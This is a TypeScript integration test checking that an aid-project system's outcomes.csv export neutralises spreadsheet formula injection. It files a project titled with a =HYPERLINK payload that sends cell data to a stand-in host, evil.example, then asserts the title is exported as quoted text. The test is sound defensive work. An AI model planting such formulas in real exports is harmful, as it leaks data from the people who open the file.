// A project titled as a spreadsheet formula, carried to evaluation on the real servers, comes out of
// outcomes.csv as text a spreadsheet shows, not a formula it runs.
import { readCsv } from '../domain/csv.js';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { caller, dacRatings, fileAs, must, rosterEvaluator, type Caller } from './support/actions.js';
import { freshKey, startStack, type Stack } from './support/stack.js';

let stack: Stack;
let pm: Caller;
beforeAll(async () => {
  stack = await startStack();
  pm = await caller(stack, { subject: 'pm-csv', role: 'PROGRAMME_MANAGER' });
});
afterAll(() => stack?.stop());

it('neutralises a =HYPERLINK(...) title in outcomes.csv and keeps the numbers as numbers', async () => {
  const title = '=HYPERLINK("http://evil.example/?leak="&A1,"Open the evaluation")';
  const ken = await caller(stack, { subject: 'fp-KEN-csv', role: 'STATE_FOCAL_POINT', stateCode: 'KEN' });
  const { id, needs } = await fileAs(stack, ken, {
    state: 'KEN', title, idempotencyKey: freshKey('csv'),
    needs: [{ priorityArea: 'PA-A', priorityActivity: '(d)', instrument: 'UNTOC', article: '32', formsOfAssistance: ['REPORTING_SUPPORT'], urgency: 'MEDIUM', description: 'Reporting support.' }],
  });
  await must(stack, pm, 'startAssessment', id);
  await must(stack, pm, 'startPlanning', id);
  await must(stack, pm, 'setPlan', id, {
    objectives: ['Reports filed'], outputs: [],
    outcomes: [{ title: 'Reports filed', indicators: [{ name: 'reports filed', unit: 'reports', baseline: 0, target: 2 }] }],
    formsOfAssistance: ['REPORTING_SUPPORT'], modality: 'NATIONAL', budget: { amount: '10000', currency: 'USD' },
  });
  await must(stack, ken, 'endorsePlan', id);
  await must(stack, pm, 'seekFunding', id);
  await must(stack, pm, 'pledge', id, { donor: 'Invented donor (demo)', amount: '10000', currency: 'USD', kind: 'CASH', earmarkPriorityArea: 'PA-A' });
  await must(stack, pm, 'startDelivery', id);
  const evaluator = await rosterEvaluator(stack, 'Evaluator of the formula project');
  await must(stack, pm, 'startEvaluation', id, { evaluator: evaluator.actor.subject });
  await must(stack, evaluator, 'submitOutcomeAssessment', id, {
    criteria: dacRatings(3), indicatorValues: [{ indicator: 'reports filed', actual: 1 }],
    needVerdicts: [{ needId: needs[0]!.id, verdict: 'PARTLY_MET' }], narrative: 'One report filed.',
  });

  const response = await fetch(stack.apiUrl.replace('/graphql', '/reports/outcomes.csv'), { headers: { authorization: `Bearer ${pm.token}` } });
  expect(response.status).toBe(200);
  const text = await response.text();
  const [header, ...records] = readCsv(text).records.map((r) => r.fields);
  const rows = records.map((fields) => Object.fromEntries(header!.map((column, i) => [column, fields[i] ?? ''])));
  const row = rows.find((r) => r.projectId === id)!;
  // What a spreadsheet receives: the title behind a single quote, shown as text; the ratings as numbers.
  expect(row.title).toBe(`'${title}`);
  expect(row).toMatchObject({ relevance: '3', needsPartlyMet: '1', needsMet: '0' });
  // No cell of the whole file starts with a formula trigger.
  const triggers = rows.flatMap((r) => Object.values(r)).filter((cell) => /^[=+@\t\r]/.test(cell) || /^-(?!\d+(\.\d+)?$)/.test(cell));
  expect(triggers).toEqual([]);
});
